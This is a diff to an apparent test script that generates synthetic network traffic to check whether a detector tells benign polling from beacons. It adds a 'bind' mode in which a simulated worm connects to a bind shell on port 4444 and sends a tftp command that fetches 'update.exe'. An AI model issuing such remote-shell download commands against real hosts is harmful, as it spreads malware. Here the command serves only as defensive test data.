@@ -9,6 +9,8 @@ submit  10.0.0.5 sends one message to 25 recipients through authenticated submis
 poll    10.0.0.5 resolves api.example.org (DNS answer 203.0.113.9) and opens a TLS connection
         with SNI to it on 443 every 30 s, 12 times (software polling a named API: benign)
 poll-ip the same without the DNS lookup and without SNI (a nameless server: a beacon)
+bind    10.0.0.5 connects to a bind shell on 10.0.0.9:4444 that greets it with the cmd.exe
+        banner and runs its tftp command (a worm's shell on the host it exploited)
 tls     10.0.0.5 holds a TLS session to 203.0.113.8:443 (ClientHello with SNI) for 60 s and
         sends a 48-byte application-data record every 2 s (a beacon inside one TLS session)
 """
@@ -64,6 +66,12 @@ if mode == 'volume':
         c.send(t, bytes((i * 7 + k) & 0xff for k in range(1400)))
         t += 0.01
     c.reply(t, b'k' * 120)
+elif mode == 'bind':
+    c = Conn(A, [10, 0, 0, 9], 1793, 4444, 100.0)
+    c.reply(100.1, b'Microsoft Windows XP [Version 5.1.2600]\r\n(C) Copyright 1985-2001 Microsoft Corp.\r\n\r\n'
+            b'C:\\WINDOWS\\system32>')
+    c.send(100.5, b'tftp -i 10.0.0.5 GET update.exe\r\n')
+    c.reply(101.0, b'Transfer successful.\r\n')
 elif mode == 'submit':
     c = Conn(A, [198, 51, 100, 25], 40002, 587, 100.0)
     c.reply(100.05, b'220 mail.example.net ESMTP\r\n')
